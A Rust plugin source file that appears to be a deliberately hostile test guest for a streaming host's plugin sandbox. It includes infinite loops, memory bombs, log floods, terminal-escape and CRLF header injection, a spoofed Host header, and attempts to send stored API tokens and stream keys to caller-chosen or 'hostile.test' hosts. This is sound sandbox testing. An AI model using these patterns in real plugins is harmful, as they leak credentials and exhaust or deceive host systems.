//! The deeds, by name.

use std::hint::black_box;

use neustream_plugin_support::bindings::exports::neustream::destination::adapter::{Guest, Health};
use neustream_plugin_support::bindings::neustream::host::{config, crypto, http, kv, telemetry};
use neustream_plugin_support::{
    Broadcast, Content, Context, Error, Field, Level, Problem, Protocol, Request, Target, Value,
    report_panics,
};

struct Gallery;

neustream_plugin_support::bindings::export!(Gallery with_types_in neustream_plugin_support::bindings);

impl Guest for Gallery {
    fn prepare(_: Context, broadcast: Broadcast) -> Result<Target, Error> {
        perform(&broadcast.title)
    }

    fn check(_: Context, state: Vec<u8>) -> Result<Health, Error> {
        perform(&String::from_utf8_lossy(&state)).map(|_| Health { live: Some(true), viewers: Some(7) })
    }

    fn finish(_: Context, state: Vec<u8>) -> Result<(), Error> {
        perform(&String::from_utf8_lossy(&state)).map(|_| ())
    }
}

fn perform(title: &str) -> Result<Target, Error> {
    let (deed, argument) = title.split_once(' ').unwrap_or((title, ""));
    let learned: Vec<u8> = match deed {
        "good" => argument.as_bytes().to_vec(),
        "loop" => endless_loop(),
        "fill" => fill_memory_for_ever(),
        "memory-bomb" => memory_bomb(),
        "recursion" => deep_recursion(u64::MAX).to_le_bytes().to_vec(),
        "wide-recursion" => wide_recursion(u64::MAX).to_le_bytes().to_vec(),
        "panic" => {
            report_panics();
            panic!("{argument}");
        }
        "abort" => core::arch::wasm32::unreachable(),
        "giant-list" => vec![1; 20 << 20],
        "giant-line" => giant_line(),
        "big-state" => vec![1; (16 << 10) + 1],
        "log-flood" => log_flood(),
        "metric-flood" => metric_flood(),
        "get" => get(argument, vec![])?,
        "many-requests" => many_requests(argument),
        "echo-secret" => get(argument, vec![bearer("api-token")])?,
        "send-stream-key" => get(argument, vec![bearer("stream-key")])?,
        "hidden-header" => get(argument, vec![plain("Host", "internal.example")])?,
        "smuggle" => get(argument, vec![plain("x-a", "b\r\nx-evil: 1")])?,
        "big-body" => post(argument, vec![0; (1 << 20) + 1])?,
        "config" => config::get().into_bytes(),
        "kv-fill" => fill_kv()?,
        "kv-count" => count_in_kv()?,
        "mac" => crypto::hmac_sha256("webhook", argument.as_bytes())?,
        "mac-with-stream-key" => crypto::hmac_sha256("stream-key", argument.as_bytes())?,
        "steal-key" => return Ok(target(argument, Value::Secret("stream-key".to_owned()), vec![])),
        "token-as-key" => return Ok(target(PUSH, Value::Secret("api-token".to_owned()), vec![])),
        "liar" => return Err(lies(argument)),
        other => return Err(failure("no-such-deed", other)),
    };
    Ok(target(PUSH, Value::Secret("stream-key".to_owned()), learned))
}

const PUSH: &str = "rtmp://push.hostile.test/live";

fn target(url: &str, key: Value, state: Vec<u8>) -> Target {
    let protocol = if url.starts_with("rtmps") { Protocol::Rtmps } else { Protocol::Rtmp };
    Target { protocol, url: url.to_owned(), backup_url: None, key, limits: None, expires_at: None, state }
}

fn failure(code: &str, message: &str) -> Error {
    Error::Other(Problem { code: code.to_owned(), message: message.to_owned(), retry_after_ms: None })
}

fn endless_loop() -> ! {
    let mut n = 0_u64;
    loop {
        n = black_box(n.wrapping_add(1));
    }
}

/// One instruction that takes milliseconds, again and again: bulk operations have no epoch checks inside.
fn fill_memory_for_ever() -> ! {
    let mut memory = vec![0_u8; 24 << 20];
    let mut n = 0_u8;
    loop {
        n = n.wrapping_add(1);
        black_box(&mut memory).fill(n);
    }
}

fn memory_bomb() -> Vec<u8> {
    report_panics();
    let mut hoard = Vec::new();
    loop {
        hoard.push(black_box(vec![1_u8; 1 << 20]));
    }
}

/// Frames that live on the engine's stack alone.
#[inline(never)]
fn deep_recursion(n: u64) -> u64 {
    if n == 0 { 0 } else { deep_recursion(n - 1).rotate_left(3) ^ n }
}

/// Frames with an array each, which guests keep on a stack of their own in linear memory.
fn wide_recursion(n: u64) -> u64 {
    let frame = black_box([n; 64]);
    if n == 0 { 0 } else { wide_recursion(n - 1) + frame[(n % 64) as usize] }
}

/// One host call with more than it may carry.
fn giant_line() -> Vec<u8> {
    telemetry::log(Level::Info, &"x".repeat(8 << 20), &[]);
    vec![]
}

fn log_flood() -> Vec<u8> {
    for n in 0..2000 {
        let line = format!("\x1b[2J\x1b]0;owned\x07line {n}\nERROR forged line\u{202e}");
        telemetry::log(Level::Error, &line, &[("field".to_owned(), "\x1b[31m".to_owned())]);
    }
    vec![]
}

fn metric_flood() -> Vec<u8> {
    for n in 0..5000 {
        telemetry::count(&format!("metric-{n}"), u64::MAX);
    }
    vec![]
}

fn bearer(secret: &str) -> Field {
    Field {
        name: "authorization".to_owned(),
        value: Value::Prefixed(("Bearer ".to_owned(), secret.to_owned())),
    }
}

fn plain(name: &str, value: &str) -> Field {
    Field { name: name.to_owned(), value: Value::Plain(value.to_owned()) }
}

fn request(method: &str, url: &str, headers: Vec<Field>, body: Content) -> Result<Vec<u8>, Error> {
    let request = Request {
        method: method.to_owned(),
        url: url.to_owned(),
        query: vec![],
        headers,
        body,
        timeout_ms: 0,
    };
    let response = http::send(&request)?;
    let mut learned = format!("{}\n", response.status).into_bytes();
    for (name, value) in response.headers {
        learned.extend(format!("{name}: {value}\n").into_bytes());
    }
    learned.extend(response.body);
    Ok(learned)
}

fn get(url: &str, headers: Vec<Field>) -> Result<Vec<u8>, Error> {
    request("GET", url, headers, Content::Empty)
}

fn post(url: &str, body: Vec<u8>) -> Result<Vec<u8>, Error> {
    request("POST", url, vec![], Content::Bytes(body))
}

fn many_requests(url: &str) -> Vec<u8> {
    for n in 0..100_u32 {
        if let Err(Error::Other(problem)) = get(url, vec![]) {
            return format!("{n} {}", problem.code).into_bytes();
        }
    }
    b"100".to_vec()
}

fn fill_kv() -> Result<Vec<u8>, Error> {
    for n in 0..100_u32 {
        if let Err(error) = kv::put(&format!("key-{n:04}"), &[0; 92], None, None) {
            let Error::Other(problem) = error else { return Err(error) };
            return Ok(format!("{n} {}", problem.code).into_bytes());
        }
    }
    Ok(b"100".to_vec())
}

/// Adds one to a number, as racing calls must: by compare-and-set.
fn count_in_kv() -> Result<Vec<u8>, Error> {
    loop {
        let entry = kv::get("count")?;
        let number = entry
            .as_ref()
            .map_or(0, |entry| u64::from_le_bytes(entry.value[..8].try_into().unwrap_or_default()));
        let next = number + 1;
        if kv::put("count", &next.to_le_bytes(), entry.map(|entry| entry.revision), None)?.is_some() {
            return Ok(next.to_string().into_bytes());
        }
    }
}

/// Errors that would do harm if they were shown as they are.
fn lies(kind: &str) -> Error {
    match kind {
        "escapes" => failure("\x1b[31mNot A Code", "\x1b[2J\r\nforged"),
        "long" => failure("long", &"x".repeat(1 << 20)),
        _ => Error::Unauthorized(Problem {
            code: "token-expired".to_owned(),
            message: "The platform says that the token is over.".to_owned(),
            retry_after_ms: Some(5000),
        }),
    }
}
